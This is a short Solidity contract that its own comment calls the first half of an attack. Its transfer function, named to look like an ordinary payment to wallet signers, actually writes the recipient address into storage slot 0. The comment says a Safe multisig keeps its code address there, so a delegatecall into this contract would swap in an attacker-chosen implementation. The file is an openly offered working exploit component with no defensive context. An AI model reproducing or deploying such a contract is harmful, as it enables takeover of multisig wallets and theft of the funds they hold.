// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// @title The attack's first half: reads like a payment in a wallet, and writes where a Safe keeps its code's address.
contract QuillTransfer {
    uint256 private _first;

    function transfer(address to, uint256) external returns (bool) {
        _first = uint256(uint160(to));
        return true;
    }
}
